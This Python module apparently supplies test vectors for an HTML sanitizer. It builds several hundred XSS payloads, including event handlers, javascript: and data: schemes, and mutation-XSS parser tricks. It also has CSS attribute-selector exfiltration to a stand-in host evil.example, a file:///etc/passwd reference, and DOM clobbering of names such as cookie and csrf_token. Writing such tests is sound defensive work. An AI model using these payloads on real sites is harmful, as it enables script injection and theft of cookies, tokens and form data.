"""Several hundred ways in which HTML has run, fetched, submitted, styled or named something."""

from __future__ import annotations

EVIL = "https://evil.example"
RUN = "alert(1)"

_HANDLERS = (
    "onload onerror onclick onmouseover onfocus onfocusin onanimationstart onanimationend onbegin"
    " ontoggle onpointerenter onpointerrawupdate onwheel onscroll onscrollend onbeforetoggle"
    " onbeforematch oncontentvisibilityautostatechange onpageshow onresize onhashchange onmessage"
    " onsubmit onchange oninput oninvalid onreset onselect oncopy onpaste ondrag ondrop onkeydown"
    " ontransitionend onloadstart oncanplay onplay onloadedmetadata onsuspend onstart onfinish"
    " onbounce onauxclick ongotpointercapture onsecuritypolicyviolation"
).split()
_TAGS = (
    "img src=x|svg|body|video src=x|audio src=x|input autofocus|details open|marquee|iframe|object"
    "|select autofocus|textarea autofocus|a href=x tabindex=1|div contenteditable autofocus|p|table"
    "|style|math|form|button autofocus|keygen autofocus|isindex|xss tabindex=1|custom-x autofocus"
).split("|")
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)",
    "java\tscript:alert(1)", "\x01javascript:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script&colon;alert(1)",
    "java&NewLine;script:alert(1)", "vbscript:alert(1)", "feed:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "blob:x", "jar:x",
    "//evil.example/x", "https:evil.example", "/\\evil.example/x", f"{EVIL}/x", "ftp://evil.example/x",
    "view-source:x", "filesystem:x", "mhtml:x", "ws://evil.example/x", "file:///etc/passwd",
)  # fmt: skip
_PLACES = (
    "<iframe src='{}'></iframe>", "<embed src='{}'>", "<object data='{}'></object>",
    "<img src='{}'>", "<form action='{}'><button>go</button></form>", "<input type=image src='{}'>",
    "<button formaction='{}'>go</button>", "<base href='{}'>", "<link rel=stylesheet href='{}'>",
    "<svg><use href='{}'/></svg>", "<svg><image href='{}'/></svg>", "<svg><a xlink:href='{}'><text>x</a></svg>",
    "<math href='{}'>x</math>", "<body background='{}'>", "<table background='{}'><tr><td background='{}'>x</table>",
    "<video poster='{}' src='{}'></video>", "<audio src='{}' autoplay></audio>",
    "<meta http-equiv=refresh content='0;url={}'>", "<area href='{}'>", "<script src='{}'></script>",
    "<frameset><frame src='{}'></frameset>", "<applet code='{}'></applet>", "<bgsound src='{}'>",
    "<img srcset='{} 2x'>", "<picture><source srcset='{}'><img></picture>", "<track src='{}'>",
    "<link rel=preload as=image href='{}'>", "<link rel=prefetch href='{}'>", "<link rel=dns-prefetch href='{}'>",
    "<link rel=modulepreload href='{}'>", "<link rel=icon href='{}'>", "<q cite='{}'>x</q>",
    "<a ping='{}' href='#'>x</a>", "<img lowsrc='{}' dynsrc='{}' longdesc='{}'>", "<xml src='{}'></xml>",
    "<portal src='{}'></portal>", "<fencedframe src='{}'></fencedframe>", "<html manifest='{}'>",
)  # fmt: skip
_STYLES = (
    "background:url({e}/x)", "background-image:url('{e}/x')", "background:u\\72l({e}/x)", "list-style:url({e}/x)",
    "content:url({e}/x)", "cursor:url({e}/x),auto", "border-image:url({e}/x) 1", "mask:url({e}/x)",
    "filter:url({e}/x#f)", "-webkit-mask-image:url({e}/x)", "background:image-set('{e}/x' 1x)",
    "background:-webkit-image-set(url({e}/x) 1x)", "shape-outside:url({e}/x)", "clip-path:url({e}/x#c)",
    "position:fixed;inset:0;z-index:9999", "position:absolute;top:0;left:0", "position:sticky;top:0",
    "margin-top:-9999px", "transform:translateY(-500px)", "float:left;width:9000px", "font-size:900px",
    "width:expression(alert(1))", "-moz-binding:url({e}/x#b)", "behavior:url({e}/x)", "--x:url({e}/x);background:var(--x)",
    "background:url(javascript:alert(1))", "@import url({e}/x)", "animation:spin 1s;background:url({e}/y)",
)  # fmt: skip
_SHEETS = (
    "@import '{e}/x.css';", "@import url({e}/x.css);", "*{{background:url({e}/x)}}", "body{{display:none}}",
    "#chrome{{display:none}}", "@font-face{{font-family:x;src:url({e}/x)}} *{{font-family:x}}",
    "input[value^=a]{{background:url({e}/a)}}", "html{{position:fixed;left:9999px}}",
    ":root{{--ink:red}}", "@namespace url({e}/x);", "@media all{{#chrome{{color:red}}}}",
    "#chrome::before{{content:url({e}/x)}}", "@keyframes x{{to{{left:0}}}} #chrome{{animation:x 1s}}",
)  # fmt: skip
_TWISTED = (
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'", "<svg><desc><b><img src=x onerror=alert(1)></b></desc></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<template><img src=x onerror=alert(1)></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>", "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>", "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<a href=\"x\" title='\"><img src=x onerror=alert(1)>'>x</a>", "<img alt='`><script>alert(1)</script>' src=x>",
    "<p title=\"&lt;img src=x onerror=alert(1)&gt;\">x</p>", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss>alert(1)</script>", "<script\n>alert(1)</script\n>", "<SCRIPT>alert(1)</SCRIPT>", "<script>alert(1)",
    "<img/src/onerror=alert(1)>", "<img src=x onerror\n=alert(1)>", "<img src=x:x onerror=alert(1)//", "<img src=x `onerror=alert(1)`>",
    "<svg/onload=alert(1)//", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href='data:,alert(1)'/></svg>", "<svg><script>alert&#40;1)</script>",
    "<svg><a><animate attributeName=href values='javascript:alert(1)'/><text y=20>x</text></a></svg>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>", "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<?php?><img src=x onerror=alert(1)>",
    "<![if true]><img src=x onerror=alert(1)><![endif]>", "</p onclick=alert(1)><img src=x onerror=alert(1)>",
    "<table><td><img src=x onerror=alert(1)></table>", "<b><p></b><img src=x onerror=alert(1)></p>",
    "\ufeff<img src=x onerror=alert(1)>", "<\0img src=x onerror=alert(1)>", "<img\x0bsrc=x\x0conerror=alert(1)>",
    "%3Cimg src=x onerror=alert(1)%3E<img src=x onerror=alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'></iframe>", "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed type='image/svg+xml' src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'>",
    "<video><source onerror=alert(1)></video>", "<video><track default onerror=alert(1) src=x></video>", "<dialog open onclose=alert(1)>x</dialog>",
    "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>", "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\">",
    "<meta http-equiv=set-cookie content='a=b'>", "<meta name=referrer content=unsafe-url>", "<p hx-get='/x' hx-trigger=load>x</p>",
    "<p data-hx-get='/x' data-hx-trigger=load>x</p>", "<p hx-on:click='alert(1)' hx-on::load='alert(1)'>x</p>", "<div style='x' class='dialog modal is-open'>x</div>",
)  # fmt: skip
_NAMES = (
    "chrome",
    "body",
    "head",
    "forms",
    "cookie",
    "getElementById",
    "csrf_token",
    "htmx",
    "location",
    "attributes",
)

VECTORS: list[str] = [
    *(f"<{tag} {name}={RUN}>x" for at, name in enumerate(_HANDLERS) for tag in _TAGS[at % 4 :: 4]),
    *(f'<a href="{scheme}">x</a>' for scheme in _SCHEMES),
    *(place.replace("{}", f"{EVIL}/x") for place in _PLACES),
    *(
        place.replace("{}", scheme)
        for place in _PLACES
        for scheme in _SCHEMES[:1] + _SCHEMES[13:14]
    ),
    *(f'<div style="{style.format(e=EVIL)}">x</div>' for style in _STYLES),
    *(f"<style>{sheet.format(e=EVIL)}</style><p>x</p>" for sheet in _SHEETS),
    *(f"<svg><style>{sheet.format(e=EVIL)}</style></svg>" for sheet in _SHEETS[:4]),
    *_TWISTED,
    *(f"<img name={name}><a id={name}><a id={name} name=x href=x>x</a>" for name in _NAMES),
    *(f"<form id={name}><input name={name}><output id=x></form>" for name in _NAMES),
]
